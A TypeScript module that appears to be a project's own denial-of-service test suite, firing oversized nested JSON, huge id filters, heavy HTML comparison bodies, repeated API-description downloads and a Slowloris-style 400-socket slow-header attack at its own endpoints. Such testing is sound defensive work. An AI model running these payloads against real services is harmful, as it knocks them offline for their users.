import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { api } from '#contract'
import { repeat } from './crowds.ts'
import { type Answer, type Headers, toAnswer, type World } from './world.ts'

/** One call with a body as it is: the sizes are the attack. */
async function sendText(world: World, path: string, body: string, headers: Headers = {}): Promise<Answer> {
  const init = { method: 'POST', headers: { ...headers, 'content-type': 'application/json' } }
  return toAnswer(await fetch(world.url + path, { ...init, body }))
}

/** Sign-ins of nobody with 1.8 MB of arrays in each other, eight at once. */
export function nestedArrays(world: World) {
  const body = `{"email":[${'[[[[1,1],[1,1]],[[1,1],[1,1]]]],'.repeat(56_000)}1]}`
  return repeat(8, 2, () => sendText(world, api.sign_in.login.path, body))
}

/** The same with 900,000 empty objects, of which a body is a list. */
export function emptyObjects(world: World) {
  const body = `[${'{},'.repeat(899_999)}{}]`
  return repeat(8, 2, () => sendText(world, api.sign_in.login.path, body))
}

/** A filter of 500,000 ids, eight at once. */
export function manyIds(world: World) {
  const body = JSON.stringify({ filter: { id: Array.from({ length: 500_000 }, (_, at) => at + 1) } })
  return repeat(8, 2, () => sendText(world, api.grade.list.path, body, world.attacker.teacher))
}

/** Texts of 300 KB to compare with the bank, of as many tags as go into them. */
export function similarTexts(world: World) {
  const text = (length: number) => '<p><b>a</b> <i>b</i></p>'.repeat(Math.floor(length / 24))
  const body = JSON.stringify({ text: text(49_000), options: Array.from({ length: 50 }, () => text(5000)) })
  return repeat(2, 2, () => sendText(world, api.question_pair.similar.path, body, world.attacker.teacher))
}

/** The same eight at once, of 20 KB. */
export function similarSmall(world: World) {
  const body = JSON.stringify({ text: '<p><b>a</b> <i>b</i></p>'.repeat(800) })
  return repeat(8, 5, () => sendText(world, api.question_pair.similar.path, body, world.attacker.teacher))
}

/** The description of the API, sixteen at once, over and over, by nobody. */
export const openapi = (world: World) =>
  repeat(16, 12, async () => {
    const response = await fetch(`${world.url}/openapi.json`, { headers: { 'accept-encoding': 'br' } })
    const bytes = (await response.arrayBuffer()).byteLength
    return { status: response.status, bytes, body: {} }
  })

/** 400 connections that send half a head, held for a while; the answers are whether each is still open at the end (1) or closed (0). */
export async function slowSenders(world: World) {
  const { port, hostname } = new URL(world.url)
  const open = new Set<ReturnType<typeof connect>>()
  for (let number = 0; number < 400; number++) {
    const socket = connect(Number(port), hostname, () => socket.write('POST /v1/login HTTP/1.1\r\nhost: x\r\n'))
    open.add(socket)
    socket.on('error', () => open.delete(socket)).on('close', () => open.delete(socket))
    socket.resume()
  }
  await pause(25_000)
  const left = open.size
  for (const socket of open) socket.destroy()
  return Array.from({ length: 400 }, (_, at): Answer => ({ status: at < left ? 1 : 0, bytes: 0, body: {} }))
}
